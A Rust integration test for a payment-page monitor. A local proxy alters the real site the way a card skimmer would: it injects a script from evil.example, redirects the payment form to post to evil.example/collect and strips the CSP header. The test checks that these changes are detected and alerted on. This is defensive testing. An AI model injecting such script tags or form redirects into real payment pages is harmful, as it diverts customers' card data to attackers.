//! The payment-page monitor notices a skimmer: an added script, a form that
//! posts elsewhere, a weakened header, a changed stylesheet.

use std::sync::{Arc, Mutex};

use app::monitor;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use url::Url;

use crate::db_tests;
use crate::harness::{Backend, Options, spawn_with};

db_tests!(a_compromised_site_raises_an_alert);

#[derive(Clone)]
struct Proxy {
    target: Arc<Mutex<String>>,
    client: reqwest::Client,
}

/// Serves the real site, altered the way an attacker would.
async fn compromised(State(p): State<Proxy>, uri: Uri) -> Response {
    let base = p.target.lock().unwrap().clone();
    let resp = p
        .client
        .get(format!("{base}{}", uri.path()))
        .send()
        .await
        .unwrap();
    let status = StatusCode::from_u16(resp.status().as_u16()).unwrap();
    let mut headers = HeaderMap::new();
    for (k, v) in resp.headers() {
        if k.as_str() == "content-length" {
            continue;
        }
        // Weakened: no CSP on the start page.
        if uri.path() == "/" && k.as_str() == "content-security-policy" {
            continue;
        }
        headers.insert(k.clone(), v.clone());
    }
    let mut body = resp.bytes().await.unwrap().to_vec();
    if uri.path() == "/pay/utilities" {
        let html = String::from_utf8(body)
            .unwrap()
            .replace(
                "</head>",
                "<script src=\"https://evil.example/skim.js\"></script></head>",
            )
            .replace(
                "action=\"/pay/utilities\"",
                "action=\"https://evil.example/collect\"",
            );
        body = html.into_bytes();
    }
    if uri.path() == "/static/app.css" {
        body.extend_from_slice(b"\n/* injected */");
    }
    (status, headers, Bytes::from(body)).into_response()
}

async fn a_compromised_site_raises_an_alert(b: Backend) {
    let proxy = Proxy {
        target: Arc::new(Mutex::new(String::new())),
        client: reqwest::Client::new(),
    };
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy_url = format!("http://{}/", l.local_addr().unwrap());
    let router = axum::Router::new()
        .fallback(compromised)
        .with_state(proxy.clone());
    tokio::spawn(async move { axum::serve(l, router).await });
    let alerts: Arc<Mutex<Vec<serde_json::Value>>> = Arc::default();
    let got = alerts.clone();
    let hook = axum::Router::new().route(
        "/alert",
        axum::routing::post(move |axum::Json(v): axum::Json<serde_json::Value>| {
            let got = got.clone();
            async move {
                got.lock().unwrap().push(v);
                StatusCode::NO_CONTENT
            }
        }),
    );
    let hl = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let hook_url = format!("http://{}/alert", hl.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(hl, hook).await });

    let t = spawn_with(
        b,
        Options {
            jobs_in_process: false,
            extra_toml: format!("[monitor]\nurl = \"{proxy_url}\"\nalert_webhook = \"{hook_url}\"\ninterval_minutes = 60\n"),
            ..Options::default()
        },
    )
    .await;
    *proxy.target.lock().unwrap() = t.public.clone();
    let key = t.app.keys.audit_signing.clone().unwrap();
    let site = Url::parse(&format!("{}/", t.public)).unwrap();

    // Baseline of the genuine site, then a check of the genuine site.
    let client = monitor::client(&site, None).unwrap();
    let snap = monitor::snapshot(&client, &site).await.unwrap();
    assert!(
        snap.pages.contains_key("/") && snap.pages.contains_key("/pay/utilities"),
        "{:?}",
        snap.pages.keys()
    );
    assert!(snap.assets.contains_key("/static/app.css"));
    assert!(
        snap.pages["/pay/utilities"].scripts.is_empty(),
        "our pages have no scripts"
    );
    let baseline = monitor::sign_baseline(&key, &site, snap, t.app.now());
    std::fs::write(
        &t.app.config.monitor.baseline,
        serde_json::to_string(&baseline).unwrap(),
    )
    .unwrap();
    let loaded =
        monitor::load_baseline(&t.app.config.monitor.baseline, &key.verifying_key()).unwrap();
    assert!(
        monitor::check(&client, &site, &loaded)
            .await
            .unwrap()
            .is_empty()
    );

    // The same site seen through the attacker's changes.
    let evil = Url::parse(&proxy_url).unwrap();
    let changes = monitor::check(&monitor::client(&evil, None).unwrap(), &evil, &loaded)
        .await
        .unwrap();
    let all = changes.join("\n");
    assert!(
        all.contains("page /pay/utilities: new script https://evil.example/skim.js"),
        "{all}"
    );
    assert!(
        all.contains("page /pay/utilities: new form action https://evil.example/collect"),
        "{all}"
    );
    assert!(
        all.contains("page /: header content-security-policy changed"),
        "{all}"
    );
    assert!(all.contains("asset /static/app.css changed"), "{all}");

    // The scheduled check inside serve alerts and records it.
    monitor::scheduled(&t.app).await;
    let posted = alerts.lock().unwrap().clone();
    assert_eq!(posted.len(), 1);
    assert!(posted[0]["changes"].as_array().unwrap().len() >= 4);
    assert_eq!(
        t.count("SELECT COUNT(*) FROM audit_events WHERE action = 'monitor.alert'")
            .await,
        1
    );

    // A baseline edited to match the attack does not verify.
    let mut forged: serde_json::Value = serde_json::to_value(&loaded).unwrap();
    forged["snapshot"]["pages"]["/pay/utilities"]["scripts"] =
        serde_json::json!(["https://evil.example/skim.js"]);
    let path = t.dir.join("forged-baseline.json");
    std::fs::write(&path, forged.to_string()).unwrap();
    assert!(matches!(
        monitor::load_baseline(&path, &key.verifying_key()),
        Err(monitor::MonitorError::BadSignature)
    ));
    t.stop().await;
}
